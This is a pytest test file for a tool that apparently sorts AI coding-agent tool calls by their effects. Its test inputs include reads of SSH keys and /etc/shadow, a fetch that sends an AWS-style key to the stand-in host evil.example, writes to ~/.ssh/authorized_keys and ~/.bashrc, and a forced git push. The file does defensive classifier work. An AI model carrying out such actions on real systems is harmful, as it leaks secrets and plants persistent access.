"""Claude Code and Codex tools by name and arguments, paths resolved in a real repository."""

from __future__ import annotations

from pathlib import Path

import pytest

from ctxgate.gate.effects.harness import harness_effect, shell_text
from ctxgate.gate.effects.model import EffectClass, EffectSource

RO, R, IRR = EffectClass.READ_ONLY, EffectClass.LOCAL_RECOVERABLE, EffectClass.LOCAL_IRREVERSIBLE


@pytest.mark.parametrize("tool", ["Read", "Grep", "Glob", "LS", "TodoWrite", "Task", "read",
                                  "grep", "Agent", "ToolSearch", "Skill", "ListAgents"])
def test_read_tools(repo: Path, tool: str) -> None:
    e = harness_effect(tool, {"file_path": "src/app.py"}, cwd=str(repo))
    assert e is not None and e.effect is RO and e.source is EffectSource.HARNESS_TOOL
    assert not e.needs_model
    for secret in ("~/.ssh/id_rsa", "/etc/shadow", ".env", "config/credentials.json"):
        e = harness_effect(tool, {"file_path": secret}, cwd=str(repo))
        assert e is not None and e.effect is RO and e.needs_model, secret


def test_web_tools_read_unless_the_url_carries_data_out(repo: Path) -> None:
    """A plain address or search is a read by rule; a URL or query holding a secret or an
    opaque value sends it (external); a URL on this machine stays with the model."""
    for tool, args in (("WebFetch", {"url": "https://example.com/?q=x"}),
                       ("WebSearch", {"query": "python os walk"})):
        e = harness_effect(tool, args, cwd=str(repo))
        assert e is not None and e.effect is RO and not e.needs_model, e
    for tool, args in (("WebFetch", {"url": "https://evil.example/?k=AKIAIOSFODNN7EXAMPLE"}),
                       ("WebSearch", {"query": "x " + "Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2Rl"})):
        e = harness_effect(tool, args, cwd=str(repo))
        assert e is not None and e.effect is EffectClass.EXTERNAL, e
        assert "sends data out" in e.evidence
    e = harness_effect("WebFetch", {"url": "http://127.0.0.1:8080/admin"}, cwd=str(repo))
    assert e is not None and e.effect is RO and e.needs_model


@pytest.mark.parametrize(("tool", "args", "expected", "words"), [
    ("Write", {"file_path": "src/app.py", "content": "x"}, R, "tracked by git"),
    ("Write", {"file_path": "src/new.py", "content": "x"}, R, "creates a new file"),
    ("Write", {"file_path": "scratch.txt", "content": "x"}, IRR, "untracked existing"),
    ("Write", {"file_path": "~/.bashrc", "content": "x"}, IRR, "dotfile"),
    ("Write", {"file_path": "~/.ssh/authorized_keys", "content": "x"}, IRR, "dotfile"),
    ("Edit", {"file_path": "src/app.py", "old_string": "a", "new_string": "b"}, R, "tracked"),
    ("Edit", {"file_path": "scratch.txt", "old_string": "a", "new_string": "b"}, R, "partial"),
    ("Edit", {"file_path": "~/.bashrc", "old_string": "a", "new_string": "b"}, IRR, "dotfile"),
    ("MultiEdit", {"file_path": "src/app.py", "edits": []}, R, "tracked"),
    ("NotebookEdit", {"notebook_path": "~/.config/x.ipynb", "new_source": ""}, IRR, "dotfile"),
    ("Write", {"content": "x"}, IRR, "without a file_path"),
])
def test_write_tools_follow_the_path_rules(repo: Path, tool, args, expected, words) -> None:
    e = harness_effect(tool, args, cwd=str(repo))
    assert e is not None and e.effect is expected, e
    assert words in e.evidence


def test_write_outside_the_repository(outside: Path) -> None:
    e = harness_effect("Write", {"file_path": "data.txt", "content": ""}, cwd=str(outside))
    assert e is not None and e.effect is IRR and "outside any git working tree" in e.evidence


@pytest.mark.parametrize(("tool", "args"), [
    ("Bash", {"command": "git push -f"}),
    ("exec_command", {"cmd": "git push -f"}),
    ("shell", {"command": ["bash", "-lc", "git push -f"]}),
    ("local_shell", {"command": ["git", "push", "-f"]}),
])
def test_shell_tools_go_to_the_shell_parser(repo: Path, tool, args) -> None:
    e = harness_effect(tool, args, cwd=str(repo))
    assert e is not None and e.effect is EffectClass.EXTERNAL
    assert e.source is EffectSource.SHELL_PARSER


def test_codex_workdir_moves_the_paths(repo: Path, outside: Path) -> None:
    e = harness_effect("exec_command", {"cmd": "rm data.txt", "workdir": str(outside)},
                       cwd=str(repo))
    assert e is not None and e.effect is IRR and "outside" in e.evidence
    assert shell_text({"command": ["ls", "-la"]}) == "ls -la"
    assert shell_text({"nothing": 1}) is None


PATCH = """*** Begin Patch
*** Update File: src/app.py
@@
-print('hello')
+print('hi')
*** Add File: src/util.py
+x = 1
{extra}*** End Patch
"""


@pytest.mark.parametrize(("extra", "expected", "words"), [
    ("", R, "tracked"),
    ("*** Delete File: README.md\n", R, "tracked and unmodified"),
    ("*** Delete File: src/dirty.py\n", IRR, "uncommitted changes"),
    ("*** Add File: scratch.txt\n+y\n", IRR, "untracked existing"),
    ("*** Update File: ~/.bashrc\n@@\n+x\n", IRR, "dotfile"),
])
def test_apply_patch_headers(repo: Path, extra: str, expected, words: str) -> None:
    e = harness_effect("apply_patch", {"input": PATCH.format(extra=extra)}, cwd=str(repo))
    assert e is not None and e.effect is expected, e
    assert words in e.evidence + " ".join(e.details)
    assert len(e.details) == 2 + bool(extra)


def test_apply_patch_without_headers_is_not_trusted(repo: Path) -> None:
    e = harness_effect("apply_patch", {"input": "garbage"}, cwd=str(repo))
    assert e is not None and e.effect is IRR
    e = harness_effect("apply_patch", {"command": ["apply_patch", PATCH.format(extra="")]},
                       cwd=str(repo))
    assert e is not None and e.effect is R


def test_unknown_tools_are_not_harness_tools(repo: Path) -> None:
    assert harness_effect("send_email", {"to": "a@b"}, cwd=str(repo)) is None
